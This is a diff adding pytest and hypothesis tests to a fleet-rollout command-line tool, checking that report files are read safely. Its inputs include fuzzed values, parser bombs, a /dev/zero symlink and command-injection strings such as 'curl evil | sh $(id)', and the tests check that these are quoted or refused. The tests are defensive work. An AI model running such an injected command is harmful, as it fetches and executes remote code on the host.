@@ -4,18 +4,23 @@ from __future__ import annotations
 
 import json
 import re
+from collections.abc import Iterator
 from pathlib import Path
+from tempfile import TemporaryDirectory
 from typing import Any
 
 import pytest
 from click.testing import CliRunner, Result
+from hypothesis import given
+from hypothesis import settings as profile
+from hypothesis import strategies as st
 
 from fleethands.cli.main import cli
 from fleethands.cli.trouble import Trouble
 from fleethands.rollout.report import HostReport, Report
 from fleethands.rollout.reread import NoReport, read
 from fleethands.rollout.shard import Shard
-from fleethands.rollout.written import Written
+from fleethands.rollout.written import Written, junit, page
 from tests.unit import reports
 
 FLEET = [f"gpu-{number:04}.example.net" for number in range(1000)]
@@ -193,3 +198,77 @@ def test_a_report_can_be_shown(tmp_path: Path) -> None:
 def test_document_of_a_whole_fleet_has_no_part() -> None:
     assert Report("plan", {}).document()["shard"] == ""
     assert str(Shard(1, 1)) == ""
+
+
+WHOLE = Report("apply", {"a": reports.failed(), "b": reports.changed()}, reports.NOON, 42.0, words="prod.py").document()
+json_values = st.recursive(
+    st.none() | st.booleans() | st.integers() | st.floats() | st.text(),
+    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
+    max_leaves=10,
+)
+
+
+def keys_of(value: Any, way: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
+    """The way to each value in a document."""
+    pairs = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
+    for key, each in pairs:
+        yield (*way, key)
+        yield from keys_of(each, (*way, key))
+
+
+@profile(max_examples=300, deadline=None)
+@given(st.sampled_from(sorted(keys_of(WHOLE), key=str)), json_values)
+def test_a_report_with_any_value_anywhere_is_one_or_is_refused(way: tuple[Any, ...], value: Any) -> None:
+    document = json.loads(json.dumps(WHOLE))
+    place = document
+    for key in way[:-1]:
+        place = place[key]
+    place[way[-1]] = value
+    with TemporaryDirectory() as directory:
+        path = Path(directory) / "report.json"
+        path.write_text(json.dumps(document))
+        try:
+            report = read(path)
+        except NoReport:
+            return
+    for text in (json.dumps(report.document(), allow_nan=False), page.text(report), junit.text(report)):
+        assert "\x1b" not in text
+
+
+@pytest.mark.parametrize("text", ["[" * 10**6, '{"schema": 1, "a": 1e999}', "9" * 10**5, '{"a": ' * 10**5])
+def test_a_bomb_is_no_report(tmp_path: Path, text: str) -> None:
+    (tmp_path / "report.json").write_text(text)
+
+    with pytest.raises(NoReport):
+        read(tmp_path)
+
+
+def test_a_report_that_is_too_long_is_read_no_further(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr("fleethands.rollout.reread.LONGEST", 1 << 20)
+    (tmp_path / "report.json").symlink_to("/dev/zero")
+
+    with pytest.raises(NoReport, match="more than 1 MiB"):
+        read(tmp_path)
+
+
+def test_the_words_of_a_report_are_quoted_where_a_hint_has_them(tmp_path: Path) -> None:
+    where = part(tmp_path / "1", "", {"a": reports.failed()}, words="prod.py; curl evil | sh $(id)")
+
+    done = CliRunner().invoke(cli, ["report", "show", where])
+
+    assert done.stdout.rstrip().endswith("run: fleethands apply 'prod.py;' curl evil '|' sh '$(id)'")
+
+
+@pytest.mark.parametrize("command", ["apply; id", "$(id)", "", "apply --yes", "x" * 50])
+def test_a_report_of_no_command_of_ours_is_refused(tmp_path: Path, command: str) -> None:
+    (tmp_path / "report.json").write_text(json.dumps({**WHOLE, "command": command}))
+
+    with pytest.raises(NoReport, match="command"):
+        read(tmp_path)
+
+
+def test_of_many_parts_that_left_nothing_only_some_are_named(tmp_path: Path) -> None:
+    done = merge(part(tmp_path / "1", "1/999999", {"a": reports.changed()}))
+
+    assert "part 21/999999 left no report; 999978 parts more left none" in done.stderr
+    assert len(done.stderr) < 2000
